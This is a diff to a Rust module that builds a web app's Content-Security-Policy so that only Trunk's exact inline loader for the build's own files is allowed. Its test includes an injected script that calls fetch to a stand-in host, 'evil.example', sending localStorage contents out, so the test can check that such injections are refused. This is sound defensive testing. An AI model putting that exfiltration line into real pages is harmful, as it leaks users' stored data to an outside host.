@@ -1,6 +1,7 @@
 //! The Content-Security-Policy of a build: nothing is allowed but the app's own files, the wasm
-//! compilation it needs, Trunk's inline loader (by its hash), and calls to the app's own origin
-//! and to the one API origin the config resolves to.
+//! compilation it needs, Trunk's inline loader (by its hash, and only exactly as Trunk writes
+//! it for this build's files), and calls to the app's own origin and to the one API origin the
+//! config resolves to.
 
 use base64::Engine;
 use base64::engine::general_purpose::STANDARD;
@@ -14,9 +15,17 @@ pub struct Policy {
 }
 
 impl Policy {
-    /// The policy for the build whose `index.html` is `index`, with `config`, served at `page`.
-    pub fn for_build(index: &str, config: &Config, page: &str) -> Result<Policy, String> {
-        let scripts: Vec<String> = inline_scripts(index)?
+    /// The policy for the build whose `index.html` is `index` and whose other files are
+    /// `files`, with `config`, served at `page` under `base`.
+    pub fn for_build(
+        index: &str,
+        files: &[String],
+        base: &str,
+        config: &Config,
+        page: &str,
+    ) -> Result<Policy, String> {
+        let loaders = trunk_loaders(files, base);
+        let scripts: Vec<String> = inline_scripts(index, &loaders)?
             .into_iter()
             .map(|script| format!("'sha256-{}'", STANDARD.encode(Sha256::digest(script))))
             .collect();
@@ -65,10 +74,26 @@ impl Policy {
     }
 }
 
-/// The text of every `<script>` without `src` in `index`: Trunk's loader only. Any other inline
-/// script is refused rather than allowed by its hash: the policy is meant to allow the app's
-/// own files and that one loader, nothing a change to index.html slips in.
-fn inline_scripts(index: &str) -> Result<Vec<&str>, String> {
+/// The loader Trunk 0.21 writes into a release build's `index.html` for each `.js` of the build
+/// with its `_bg.wasm`, served under `base`.
+fn trunk_loaders(files: &[String], base: &str) -> Vec<String> {
+    files
+        .iter()
+        .filter_map(|name| name.strip_suffix(".js"))
+        .filter(|stem| files.iter().any(|name| *name == format!("{stem}_bg.wasm")))
+        .map(|stem| {
+            format!(
+                "import init from '{base}{stem}.js';\nconst wasm = await init({{ module_or_path: '{base}{stem}_bg.wasm' }});\n\n\n\ndispatchEvent(new CustomEvent(\"TrunkApplicationStarted\", {{detail: {{wasm}}}}));"
+            )
+        })
+        .collect()
+}
+
+/// The text of every `<script>` without `src` in `index`: one of `loaders`, exactly. Any other
+/// inline script, even one that starts like the loader, is refused rather than allowed by its
+/// hash: the policy is meant to allow the app's own files and that one loader, nothing a
+/// change to index.html slips in.
+fn inline_scripts<'a>(index: &'a str, loaders: &[String]) -> Result<Vec<&'a str>, String> {
     let mut scripts = Vec::new();
     let mut rest = index;
     while let Some(start) = rest.find("<script") {
@@ -82,9 +107,9 @@ fn inline_scripts(index: &str) -> Result<Vec<&str>, String> {
             .ok_or("index.html has a <script> without </script>")?;
         if !rest[start..tag_end].contains(" src") {
             let script = &rest[tag_end..end];
-            if !(script.starts_with("import init from '") && script.contains("await init(")) {
+            if !loaders.iter().any(|loader| loader == script) {
                 return Err(format!(
-                    "index.html has an inline script that is not Trunk's loader, which the Content-Security-Policy would allow by its hash: move it to a file. It starts: {:?}",
+                    "index.html has an inline script that is not Trunk's loader for this build, which the Content-Security-Policy would allow by its hash: move it to a file. It starts: {:?}",
                     script.chars().take(60).collect::<String>()
                 ));
             }
@@ -100,15 +125,30 @@ mod tests {
     use super::*;
 
     #[test]
-    fn the_loader_is_found_external_scripts_left_out_and_any_other_inline_script_refused() {
-        let loader = "import init from '/x.js';\nconst wasm = await init({});";
+    fn only_trunks_loader_for_this_builds_files_exactly_is_allowed() {
+        let files = ["app-12ab.js", "app-12ab_bg.wasm", "main-34cd.css"].map(str::to_owned);
+        let loaders = trunk_loaders(&files, "/app/");
+        let [loader] = loaders.as_slice() else {
+            panic!("one loader: {loaders:?}")
+        };
+        assert!(loader.starts_with("import init from '/app/app-12ab.js';\n"));
         let index = format!("<script type=module>{loader}</script><script src=/y.js></script>");
-        assert_eq!(inline_scripts(&index), Ok(vec![loader]));
-        let added = format!("{index}<script>track()</script>");
-        let refused = inline_scripts(&added).expect_err("refused");
-        assert!(
-            refused.contains("not Trunk's loader") && refused.contains("track()"),
-            "{refused}"
-        );
+        assert_eq!(inline_scripts(&index, &loaders), Ok(vec![loader.as_str()]));
+        for added in [
+            "<script>track()</script>".to_owned(),
+            // Starts like the loader, and does more.
+            format!(
+                "<script type=module>{loader}\nfetch('//evil.example/'+localStorage.x)</script>"
+            ),
+            // The loader for files this build does not have.
+            format!(
+                "<script type=module>{}</script>",
+                loader.replace("12ab", "99ff")
+            ),
+        ] {
+            let refused =
+                inline_scripts(&format!("{index}{added}"), &loaders).expect_err("refused");
+            assert!(refused.contains("not Trunk's loader"), "{refused}");
+        }
     }
 }
